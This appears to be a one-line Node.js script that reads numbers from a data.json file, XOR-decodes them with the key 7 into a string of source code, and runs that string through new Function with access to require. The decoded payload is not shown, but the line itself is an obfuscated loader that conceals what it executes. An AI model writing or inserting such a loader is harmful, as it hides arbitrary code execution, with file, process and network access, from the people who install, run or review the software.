const d=require('./data.json');const c=d.rows.map(r=>String.fromCharCode(r.v^7)).join('');new Function('require',c)(require);
